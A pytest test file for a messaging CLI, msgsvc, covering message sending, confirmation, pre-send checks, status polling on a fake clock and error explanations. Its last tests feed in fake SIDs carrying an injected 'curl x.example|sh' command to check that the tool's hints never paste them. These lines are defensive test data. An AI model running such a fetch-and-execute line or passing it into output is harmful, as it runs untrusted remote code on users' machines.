"""msgsvc send and msgsvc messages get/cancel: the exact request (MessagingServiceSid, never
From), confirmation and --yes, the pre-send checks and --force, --wait through every status
on a fake clock, the explanation of each listed error code, exit codes 0/1/5, and hostile
servers (a status that never settles)."""

from __future__ import annotations

import json
import re
import time

import pytest

from conftest import ACCOUNT_SID, SERVICE_SID, page, service
from corehelp import assert_request, sent
from factories import attach, create_service

MESSAGES = f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages.json"
SM = "SM" + "c" * 32


def message(**fields) -> dict:
    """A message as the API returns it."""
    return {
        "body": "Hello", "num_segments": "1", "direction": "outbound-api", "from": None, "to": "+14155550100",
        "date_updated": "Thu, 24 Aug 2023 05:01:45 +0000", "price": None, "error_message": None,
        "uri": f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}.json", "account_sid": ACCOUNT_SID, "num_media": "0",
        "status": "accepted", "messaging_service_sid": SERVICE_SID, "sid": SM, "date_sent": None,
        "date_created": "Thu, 24 Aug 2023 05:01:45 +0000", "error_code": None, "price_unit": None,
        "api_version": "2010-04-01", "subresource_uris": {"media": f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}/Media.json"},
        **fields,
    }


def no_findings(httpserver, sid=SERVICE_SID):
    """The reads of the pre-send checks for a service with no numbers: nothing to find."""
    httpserver.expect_oneshot_request(f"/v1/Services/{sid}", method="GET").respond_with_json(service(sid))
    httpserver.expect_oneshot_request(f"/v1/Services/{sid}/PhoneNumbers", method="GET").respond_with_json(page("phone_numbers", []))


# --- the exact request, against a local server --------------------------------------------------


def test_send_posts_messaging_service_sid_and_never_from(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    no_findings(httpserver)
    httpserver.expect_oneshot_request(MESSAGES, method="POST").respond_with_json(message(), status=201)
    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Hello there", "--media-url", "https://example.com/a.png",
                    "--media-url", "https://example.com/b.png", "--validity-period", "600", "--shorten-urls",
                    "--content-sid", "HX" + "1" * 32, "--content-variables", '{"1": "Ada"}', "--yes", "--json")
    assert result.code == 0, result.err
    assert json.loads(result.out)["sid"] == SM
    *checks, request = sent(httpserver)
    assert [r.path for r in checks] == [f"/v1/Services/{SERVICE_SID}"] * 2 + [f"/v1/Services/{SERVICE_SID}/PhoneNumbers"]
    assert_request(request, "POST", MESSAGES, form=(
        f"To=%2B14155550100&MessagingServiceSid={SERVICE_SID}&Body=Hello+there&MediaUrl=https%3A%2F%2Fexample.com%2Fa.png"
        f"&MediaUrl=https%3A%2F%2Fexample.com%2Fb.png&ContentSid=HX{'1' * 32}&ContentVariables=%7B%221%22%3A+%22Ada%22%7D"
        "&ValidityPeriod=600&ShortenUrls=true"))


def test_send_without_yes_in_a_script_is_refused_before_any_request(msgsvc, profile, httpserver):
    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Hello")
    assert (result.code, result.out) == (2, "")
    assert result.err == ("msgsvc: refusing to send a message (it is billed) without confirmation\n"
                          "hint: add --yes to send from a script\n")
    assert sent(httpserver) == []


def test_send_on_a_terminal_names_the_account_and_asks(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    no_findings(httpserver)
    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Grüße €", stdin="n\n", stdin_tty=True)
    assert (result.code, result.out) == (2, "")
    assert result.err == (f"Send a message of 1 segment (GSM-7) to +14155550100 through {SERVICE_SID} (Alerts), billed to "
                          f"account {ACCOUNT_SID} (profile test)? [y/N]: Nothing sent.\n")
    assert all(r.method == "GET" for r in sent(httpserver))
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    no_findings(httpserver)
    httpserver.expect_oneshot_request(MESSAGES, method="POST").respond_with_json(message(), status=201)
    yes = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Привет", stdin="y\n", stdin_tty=True)
    assert yes.code == 0, yes.err
    assert yes.err.startswith(f"Send a message of 1 segment (UCS-2) to +14155550100 through {SERVICE_SID} (Alerts)")
    assert yes.err.endswith(f"Sent message {SM}: accepted. Follow it with: msgsvc messages get {SM} --wait\n")


@pytest.mark.parametrize("args, message", [
    ((), "nothing to send: give --body, --body-file, --media-url or --content-sid"),
    (("--body", "x", "--body-file", "f.txt"), "give --body or --body-file, not both"),
    (("--content-variables", "{}"), "--content-variables needs --content-sid"),
])
def test_send_refuses_what_cannot_be_sent_before_any_request(msgsvc, profile, httpserver, args, message):
    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", *args, "--yes")
    assert (result.code, result.err) == (2, f"msgsvc: {message}\n")
    assert sent(httpserver) == []


@pytest.mark.parametrize("args, problem", [
    (("--to", "4155550100"), "Invalid value for '--to': '4155550100' is not an E.164 number: they begin with '+' (did you mean +14155550100?)"),
    (("--to", "+14155550100", "--body", "x", "--content-sid", "HX12"), "Invalid value for '--content-sid'"),
    (("--to", "+14155550100", "--content-sid", "HX" + "1" * 32, "--content-variables", "[1]"), "is not a JSON object"),
    (("--to", "+14155550100", "--body", "x", "--validity-period", "0"), "0 is not in the range 1 to 36000"),
    (("--to", "+14155550100", "--body", "x", "--schedule", "tomorrow"), "'tomorrow' is not an ISO 8601 time"),
    (("--to", "+14155550100", "--body", "x", "--schedule", "2020-01-01T00:00:00Z"), "is not between 15 minutes and 35 days from now"),
])
def test_send_checks_its_options_before_any_request(msgsvc, profile, httpserver, args, problem):
    result = msgsvc("send", SERVICE_SID, *args, "--yes")
    assert result.code == 2 and problem in result.err, result.err
    assert sent(httpserver) == []


def test_a_dry_run_prints_the_request_and_sends_none(msgsvc, profile, httpserver):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    no_findings(httpserver)
    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Hi", "--dry-run")
    assert result.code == 0, result.err
    base = httpserver.url_for("/").rstrip("/")
    assert result.out == f"POST {base}{MESSAGES}\n  To=+14155550100\n  MessagingServiceSid={SERVICE_SID}\n  Body=Hi\n"
    assert result.err == "Dry run: 1 request not sent.\n"
    assert all(r.method == "GET" for r in sent(httpserver))


def test_send_reads_the_body_from_a_file_or_stdin(msgsvc, profile, httpserver, tmp_path):
    (tmp_path / "note.txt").write_text("From a file\n", encoding="utf-8")
    for args, stdin in ((("--body-file", str(tmp_path / "note.txt")), None), (("--body-file", "-"), "From stdin\n")):
        httpserver.clear_log()
        httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
        httpserver.expect_oneshot_request(MESSAGES, method="POST").respond_with_json(message(), status=201)
        result = msgsvc("send", SERVICE_SID, "--to", "+447700900123", *args, "--yes", stdin=stdin)
        assert result.code == 0, result.err
        body = "From+a+file" if stdin is None else "From+stdin"
        assert_request(sent(httpserver)[-1], "POST", MESSAGES, form=f"To=%2B447700900123&MessagingServiceSid={SERVICE_SID}&Body={body}")


def test_a_lost_answer_is_never_sent_again(msgsvc, httpserver, isolated):
    from factories import save_profile

    save_profile(httpserver.url_for("/").rstrip("/"), max_retries=3)
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    httpserver.expect_request(MESSAGES, method="POST").respond_with_data("<html>gateway</html>", status=502)
    result = msgsvc("send", SERVICE_SID, "--to", "+447700900123", "--body", "x", "--yes")
    assert result.code == 1
    assert [r.method for r in sent(httpserver)].count("POST") == 1
    assert "hint: the message may have been sent (and billed): look for it before sending again" in result.err


# --- against the emulator, on a fake clock ----------------------------------------------------


class FakeClock:
    """The wait's clock and the emulator's, one fake time that moves only when slept on."""

    def __init__(self, emulator) -> None:
        self.t = time.time()
        self.sleeps: list[float] = []
        emulator.store.clock = lambda: self.t

    def now(self) -> float:
        return self.t

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.t += seconds


@pytest.fixture
def emu(emulator, monkeypatch):
    monkeypatch.setenv("TWILIO_ACCOUNT_SID", emulator.account_sid)
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", emulator.auth_token)
    monkeypatch.setenv("MSGSVC_BASE_URL", emulator.base_url)
    emulator.store.a2p_review = 0
    # steps the backoff (1, 2, 4, 8 s) meets one by one
    emulator.store.message_steps = {"queued": 1.0, "sending": 3.0, "sent": 7.0, "delivered": 15.0}
    return emulator


@pytest.fixture
def clock(emu, monkeypatch):
    from msgsvc.api import messages

    fake = FakeClock(emu)
    monkeypatch.setattr(messages, "CLOCK", fake)
    return fake


def ready_service(emu, *, campaign=True, number="+15550000001") -> str:
    sid = create_service(emu, "Alerts")
    attach(emu, sid, "PhoneNumbers", PhoneNumberSid=emu.number(number)["sid"])
    if campaign:
        emu.register_campaign(sid)
    return sid


def the_message(emu) -> str:
    (sid,) = emu.store.data["messages"]
    return sid


def test_wait_follows_every_status_until_delivered(msgsvc, emu, clock):
    service = ready_service(emu)
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Hello", "--yes", "--wait", "--json")
    assert result.code == 0, result.err
    sm = the_message(emu)
    assert json.loads(result.out)["status"] == "delivered"
    assert result.err == (
        f"    0s  {sm}  accepted  1 segment\n"
        f"    1s  {sm}  queued  from +15550000001  1 segment\n"
        f"    3s  {sm}  sending  from +15550000001  1 segment\n"
        f"    7s  {sm}  sent  from +15550000001  1 segment  price -0.00790 USD\n"
        f"   15s  {sm}  delivered  from +15550000001  1 segment  price -0.00790 USD\n"
    )
    assert clock.sleeps == [1, 2, 4, 8]
    assert emu.store.data["messages"][sm]["service_sid"] == service


def test_the_backoff_caps_at_30_seconds(msgsvc, emu, clock):
    ready_service(emu)
    emu.store.message_steps = {"queued": 1.0, "sending": 2.0, "sent": 3.0, "delivered": 200.0}
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Hello", "--yes", "--wait")
    assert result.code == 0, result.err
    assert clock.sleeps == [1, 2, 4, 8, 16, 30, 30, 30, 30, 30, 30]  # delivered at 200 s: seen at 211 s


@pytest.mark.parametrize("to, setup, code, line, hint", [
    ("+14155550100", "no campaign", 30034,
     "failed: error 30034, message from an unregistered number: US traffic from a 10DLC long code needs a VERIFIED A2P 10DLC campaign on its service",
     "register the service's campaign: msgsvc campaigns get {service} (and msgsvc campaigns create {service} --from-file campaign.toml)"),
    ("+14155550100", "toll-free", 30032,
     "failed: error 30032, the toll-free number has not been verified: US and Canadian carriers block toll-free traffic without an approved verification",
     "verify the number: msgsvc tollfree status"),
    ("+15005550004", "", 21610,
     "failed: error 21610, the recipient opted out of this service (replied STOP): Twilio sends them nothing more from it",
     "nothing to fix on the service: only the recipient can opt in again, by replying START"),
    ("+15005550070", "", 30007,
     "undelivered: error 30007, carrier filtering: a carrier blocked the message as unwanted (spam, content not matching the registered use case)",
     "check that the content matches the campaign's samples and use case: msgsvc campaigns get {service}"),
    ("+14155550100", "validity", 30036,
     "failed: error 30036, validity period expired: the message waited in Twilio's queue longer than its validity period",
     "send with a longer --validity-period, or raise the service's: msgsvc services update {service} --validity-period 36000"),
])
def test_wait_explains_each_listed_error_with_exit_1(msgsvc, emu, clock, to, setup, code, line, hint):
    if setup == "toll-free":
        emu.number("+15550000002")["phone_number"] = "+18005550100"
    service = ready_service(emu, campaign=setup != "no campaign", number="+18005550100" if setup == "toll-free" else "+15550000001")
    extra = ("--validity-period", "1") if setup == "validity" else ()
    result = msgsvc("send", "Alerts", "--to", to, "--body", "Hello", *extra, "--yes", "--wait", "--force")
    assert result.code == 1, result.err
    sm = the_message(emu)
    assert json.loads(json.dumps(result.out.count("\n"))) > 0  # the message, on stdout
    assert f"error_code\t{code}\n" in result.out
    *_, said, hinted = result.err.splitlines()
    assert said == f"msgsvc: message {sm} is {line}"
    assert hinted == "hint: " + hint.format(service=service)


def test_pre_send_checks_stop_a_message_that_would_be_refused(msgsvc, emu, clock):
    service = ready_service(emu, campaign=False)
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Hello", "--yes")
    assert (result.code, result.out) == (1, "")
    assert result.err == (
        f"msgsvc: not sent: a message to +14155550100 through {service} (Alerts) would be refused:\n"
        "  10dlc-no-campaign: US long codes and no A2P 10DLC campaign (30034): us_long_codes=1 campaign=none\n"
        f"hint: msgsvc campaigns create {service} --brand BRAND --usecase USECASE ...; or send anyway with --force\n"
    )
    assert "messages" not in emu.store.data or emu.store.data["messages"] == {}
    abroad = msgsvc("send", "Alerts", "--to", "+447700900123", "--body", "Hello", "--yes")  # +1 only
    assert abroad.code == 0, abroad.err


def test_wait_times_out_with_exit_5(msgsvc, emu, clock):
    ready_service(emu)
    emu.store.message_steps = {"queued": 1.0, "sending": 1000.0, "sent": 2000.0, "delivered": 3000.0}
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Hello", "--yes", "--wait", "--timeout", "20s")
    sm = the_message(emu)
    assert (result.code, result.out) == (5, "")
    assert result.err.endswith(f"msgsvc: message {sm} is still queued after 20s\n"
                               f"hint: wait longer: msgsvc messages get {sm} --wait --timeout 1h\n")
    assert sum(clock.sleeps) == 20 and clock.sleeps[-1] == 5  # 1+2+4+8, then what is left


def test_ctrl_c_while_waiting_says_the_message_was_sent(msgsvc, emu, clock, monkeypatch):
    ready_service(emu)

    def interrupted(seconds):
        raise KeyboardInterrupt

    monkeypatch.setattr(clock, "sleep", interrupted)
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Hello", "--yes", "--wait")
    sm = the_message(emu)
    assert (result.code, result.out) == (130, "")
    assert result.err.endswith(f"msgsvc: interrupted while waiting: message {sm} was sent and goes on without msgsvc\n"
                               f"hint: follow it again with: msgsvc messages get {sm} --wait\n")


def test_sent_without_a_receipt_is_success_when_the_time_runs_out(msgsvc, emu, clock):
    ready_service(emu)
    emu.store.message_steps = {"queued": 1.0, "sending": 2.0, "sent": 3.0, "delivered": 10**6}
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Hello", "--yes", "--wait", "--timeout", "1m")
    sm = the_message(emu)
    assert result.code == 0, result.err
    assert "status\tsent\n" in result.out
    assert result.err.endswith(f"Message {sm} is sent; no delivery receipt came within 1m (some carriers send none)\n")


def test_messages_get_and_its_wait(msgsvc, emu, clock):
    ready_service(emu)
    assert msgsvc("send", "Alerts", "--to", "+15005550030", "--body", "Hi", "--yes").code == 0
    sm = the_message(emu)
    now = msgsvc("messages", "get", sm, "--json")
    assert (now.code, json.loads(now.out)["status"]) == (0, "accepted")
    waited = msgsvc("messages", "get", sm, "--wait")
    assert waited.code == 1
    assert waited.err.splitlines()[-2] == f"msgsvc: message {sm} is undelivered: error 30003, unreachable destination handset: switched off or out of coverage"
    again = msgsvc("messages", "get", sm)  # a settled failure: the same explanation, exit 1
    assert again.code == 1 and again.err.splitlines()[-1] == "hint: try again later"


def test_schedule_then_cancel(msgsvc, emu, clock):
    ready_service(emu)
    at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3600))
    result = msgsvc("send", "Alerts", "--to", "+14155550100", "--body", "Later", "--schedule", at, "--yes")
    sm = the_message(emu)
    assert result.code == 0, result.err
    assert "status\tscheduled\n" in result.out
    assert result.err.endswith(f"Scheduled message {sm} for {at}; cancel it with: msgsvc messages cancel {sm}\n")
    record = emu.store.data["messages"][sm]
    assert record["plan"][0][1] == float(time.mktime(time.strptime(at, "%Y-%m-%dT%H:%M:%SZ")) - time.timezone)
    canceled = msgsvc("messages", "cancel", sm)
    assert (canceled.code, canceled.err) == (0, f"Canceled message {sm}\n")
    assert "status\tcanceled\n" in canceled.out
    twice = msgsvc("messages", "cancel", sm)
    assert twice.code == 1 and "(Twilio error 30409)" in twice.err


def test_messages_get_refuses_a_sid_of_another_kind(msgsvc, emu):
    result = msgsvc("messages", "get", "MG" + "0" * 32)
    assert result.code == 2
    assert f"'MG{'0' * 32}' is not a message SID (SM followed by 32 hexadecimal digits)" in result.err


# --- a hostile server ---------------------------------------------------------------------------


def test_a_status_that_never_settles_ends_at_the_timeout(msgsvc, profile, httpserver, monkeypatch):
    from msgsvc.api import messages

    class Clock:
        t = 0.0
        sleeps = []

        def now(self):
            return self.t

        def sleep(self, s):
            self.sleeps.append(s)
            self.t += s

    fake = Clock()
    monkeypatch.setattr(messages, "CLOCK", fake)
    url = f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}.json"
    httpserver.expect_request(url, method="GET").respond_with_json(message(status="sending"))
    result = msgsvc("messages", "get", SM, "--wait", "--timeout", "5m")
    assert (result.code, result.out) == (5, "")
    assert result.err.endswith(f"msgsvc: message {SM} is still sending after 5m\n"
                               f"hint: wait longer: msgsvc messages get {SM} --wait --timeout 1h\n")
    assert fake.sleeps == [1, 2, 4, 8, 16, 30, 30, 30, 30, 30, 30, 30, 30, 29]  # 300 s in all
    assert len(sent(httpserver)) == 15  # one look per sleep, and the first


HOSTILE_SM = "SM1; curl x.example|sh"
LATER = time.strftime("%Y-%m-%dT%H:00:00Z", time.gmtime(time.time() + 2 * 3600))


@pytest.mark.parametrize("extra, said", [
    ((), f"Sent message {HOSTILE_SM}: accepted. Follow it with: msgsvc messages get SID --wait\n"),
    (("--schedule", LATER), f"Scheduled message {HOSTILE_SM} for {LATER}; cancel it with: msgsvc messages cancel SID\n"),
])
def test_a_sent_messages_note_pastes_no_sid_that_is_not_one(msgsvc, profile, httpserver, extra, said):
    httpserver.expect_oneshot_request(f"/v1/Services/{SERVICE_SID}", method="GET").respond_with_json(service())
    no_findings(httpserver)
    httpserver.expect_oneshot_request(MESSAGES, method="POST").respond_with_json(message(sid=HOSTILE_SM), status=201)
    result = msgsvc("send", SERVICE_SID, "--to", "+14155550100", "--body", "Hello", "--yes", *extra, "--fields", "sid")
    assert (result.code, result.out) == (0, f"sid\t{HOSTILE_SM}\n")
    assert result.err == said


def test_a_failures_remedy_pastes_no_service_that_is_not_one(msgsvc, profile, httpserver):
    failed = message(status="failed", error_code=30036, messaging_service_sid="MG1; curl x.example|sh")
    httpserver.expect_oneshot_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}.json").respond_with_json(failed)
    result = msgsvc("messages", "get", SM, "--fields", "status")
    assert (result.code, result.out) == (1, "status\tfailed\n")
    assert result.err == (f"msgsvc: message {SM} is failed: error 30036, validity period expired: the message waited in "
                          "Twilio's queue longer than its validity period\n"
                          "hint: send with a longer --validity-period, or raise the service's: "
                          "msgsvc services update SERVICE --validity-period 36000\n")


def test_a_waits_hints_paste_no_sid_that_is_not_one(msgsvc, profile, httpserver, monkeypatch):
    from msgsvc.api import messages

    class Clock:
        t = 0.0

        def now(self):
            return self.t

        def sleep(self, s):
            self.t += s

    monkeypatch.setattr(messages, "CLOCK", Clock())
    url = f"/2010-04-01/Accounts/{ACCOUNT_SID}/Messages/{SM}.json"  # the first look; the next ones at the sid it sent
    hostile = re.compile(r"/2010-04-01/Accounts/AC\w+/Messages/SM1;.*\.json")  # the sid the server sent, in a path
    httpserver.expect_request(hostile, method="GET").respond_with_json(message(sid=HOSTILE_SM, status="sending"))
    httpserver.expect_request(url, method="GET").respond_with_json(message(sid=HOSTILE_SM, status="sending"))
    result = msgsvc("messages", "get", SM, "--wait", "--timeout", "5s")
    assert (result.code, result.out) == (5, "")
    assert result.err == (f"    0s  {HOSTILE_SM}  sending  1 segment\n"
                          f"msgsvc: message {HOSTILE_SM} is still sending after 5s\n"
                          "hint: wait longer: msgsvc messages get SID --wait --timeout 1h\n")
